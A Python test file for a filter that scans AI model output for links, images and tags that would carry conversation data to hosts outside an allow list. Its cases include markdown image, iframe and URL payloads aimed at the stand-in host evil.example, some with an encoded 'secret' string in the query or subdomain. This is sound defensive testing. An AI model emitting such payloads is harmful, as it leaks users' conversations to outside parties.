from __future__ import annotations

from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zaphod.core.errors import ConfigError
from zaphod.safety.guard.authority.egress import AllowedHosts, EgressFinder, addresses_in

FINDER = EgressFinder(AllowedHosts(["example.org", "*.ok.example"]))
MUCH = "c2VjcmV0IHdvcmRzIG9mIHRoZSBjb252ZXJzYXRpb24gdGhhdCBsZWFr"


@dataclass(frozen=True)
class Raw:
    """The raw text as a view."""

    text: str
    chain: tuple[str, ...] = ()

    def raw_span(self, start: int, end: int) -> tuple[int, int]:
        return start, end


def found(text: str, stage: str = "output") -> list[str]:
    return [text[hit.start : hit.end] for hit in FINDER.find([Raw(text)], stage)]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/a.png?q=1)",
        "![](<https://evil.example/a>)",
        "![x](//evil.example/a)",
        "![x](http://user@evil.example/a)",
        "![x](HTTPS://EVIL.EXAMPLE/a)",
        '<img src="https://evil.example/a">',
        "<IMG alt=1 SRC=//evil.example/a>",
        "<iframe src='https://evil.example/'>",
        "background: url(https://evil.example/x)",
        "[x]: https://evil.example/a",
        "[click](https://evil.example/?q=" + MUCH + ")",
        "https://evil.example/" + MUCH,
        "https://" + MUCH + ".evil.example/",
        "https://" + MUCH + "@evil.example/",
        "https://evil.example/#" + MUCH,
        "![x](https://example.org.evil.example/a)",
        "![x](https://xexample.org/a)",
        "![x](https://ok.example.evil.example/a)",
    ],
)
def test_what_would_carry_words_away_is_found(text: str) -> None:
    assert found(f"Here: {text} done") or found(text)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://example.org/a.png?q=1)",
        "![x](https://cdn.ok.example/a.png)",
        "see https://evil.example/docs for more",
        "![a picture](data:image/png;base64,AAAA)",
        "array[i](x) and ![no](relative/path.png)",
        "https://example.org/?q=" + MUCH,
        "a < b and c > d; src = url",
    ],
)
def test_what_carries_nothing_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_only_what_goes_out_is_looked_at() -> None:
    assert found("![x](https://evil.example/a)", "input") == []


@pytest.mark.parametrize("pattern", ["https://example.org", "example.org:80", "*.*.example", "", "EXAMPLE.org", "a b"])
def test_what_is_no_host_is_refused(pattern: str) -> None:
    with pytest.raises(ConfigError, match="allowed_hosts"):
        AllowedHosts([pattern])


@given(st.text(alphabet=st.sampled_from("![]()<>:/ \n\"'.?#@abhtps=imgrc\ud800é"), max_size=200))
def test_any_text_can_be_looked_at_and_places_lie_in_it(text: str) -> None:
    for address in addresses_in(text):
        assert 0 <= address.start < address.end <= len(text)


@pytest.mark.parametrize("text", ["Look: ![x](https://evil.exam", "see <img sr", "https://evil.ex"])
def test_an_address_that_may_go_on_is_pending(text: str) -> None:
    place = FINDER.pending(text)
    assert place is not None
    assert found(text[:place]) == []


def test_ordinary_prose_is_not_pending() -> None:
    assert FINDER.pending("The answer is 42, more or less") is None
